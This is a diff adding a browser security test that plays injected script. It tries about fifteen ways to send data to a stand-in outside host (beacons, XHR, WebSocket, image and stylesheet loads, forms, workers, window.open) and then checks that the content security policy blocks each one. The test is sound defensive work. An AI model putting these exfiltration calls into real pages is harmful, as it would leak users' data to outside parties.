@@ -34,6 +34,92 @@ test('the page cannot be led to another origin, where its address would tell fig
 	await expect.poll(() => page.url()).toBe(`${here}?still=here`);
 });
 
+/** What a content security policy closes; each is tried by script, as if somebody had got one in. */
+const CLOSED = [
+	'beacon',
+	'request',
+	'socket',
+	'stream',
+	'transport',
+	'picture',
+	'background',
+	'sheet',
+	'frame',
+	'video',
+	'form',
+	'module',
+	'worker',
+	'prefetch',
+] as const;
+
+test('[SEC-3] no channel leads to another machine: the proxy of all these tests stays empty', async ({
+	page,
+	context,
+	trespasses,
+}) => {
+	const outcomes = await page.evaluate(async (channels) => {
+		const there = 'https://elsewhere.example/?revenue=1';
+		const element = (tag: string, fields: Record<string, string>): HTMLElement => {
+			const made = document.createElement(tag);
+			for (const [name, value] of Object.entries(fields)) made.setAttribute(name, value);
+			document.body.append(made);
+			return made;
+		};
+		const attempts: Record<(typeof channels)[number], () => unknown> = {
+			beacon: () => navigator.sendBeacon(there, 'revenue'),
+			request: () => {
+				const request = new XMLHttpRequest();
+				request.open('GET', there);
+				request.send();
+			},
+			socket: () => new WebSocket('wss://elsewhere.example/'),
+			stream: () => new EventSource(there),
+			transport: () => Reflect.construct(Reflect.get(globalThis, 'WebTransport'), [there]),
+			picture: () => element('img', { src: there }),
+			background: () => {
+				element('i', {}).style.backgroundImage = `url(${there})`;
+			},
+			sheet: () => element('link', { rel: 'stylesheet', href: there }),
+			frame: () => element('iframe', { src: there }),
+			video: () => element('video', { src: there }),
+			form: () => {
+				(element('form', { action: there }) as HTMLFormElement).submit();
+			},
+			module: () => import(/* @vite-ignore */ there),
+			worker: () => new Worker(there),
+			prefetch: () => element('link', { rel: 'prefetch', href: there }),
+		};
+		for (const channel of channels) {
+			try {
+				await attempts[channel]();
+			} catch {
+				// Refused at once is refused.
+			}
+		}
+		// What no policy closes, and the page does itself.
+		const opened = 'open' in globalThis ? (open(there) === null ? 'refused' : 'a window') : 'gone';
+		element('a', { href: there, target: '_blank' }).click();
+		const link = element('a', { href: there });
+		link.dispatchEvent(new MouseEvent('auxclick', { button: 1, bubbles: true, cancelable: true }));
+		link.click();
+		return { opened, peers: 'RTCPeerConnection' in globalThis };
+	}, CLOSED);
+	expect(outcomes).toEqual({ opened: 'gone', peers: false });
+	// Refusals are told one by one, some of them late.
+	let told = -1;
+	const allTold = (): boolean => {
+		const [before, now] = [told, trespasses.length];
+		told = now;
+		return now > CLOSED.length / 2 && now === before;
+	};
+	await expect.poll(allTold, { intervals: [500] }).toBe(true);
+	expect(context.pages()).toHaveLength(1);
+	expect(new URL(page.url()).hostname).toBe('localhost');
+	// The browser tells of requests that it then refused; what got out, the proxy knows.
+	expect(trespasses.filter(({ kind }) => kind === 'error')).toEqual([]);
+	trespasses.length = 0;
+});
+
 test('no cookie is ever set', async ({ context }) => {
 	expect(await context.cookies()).toEqual([]);
 });
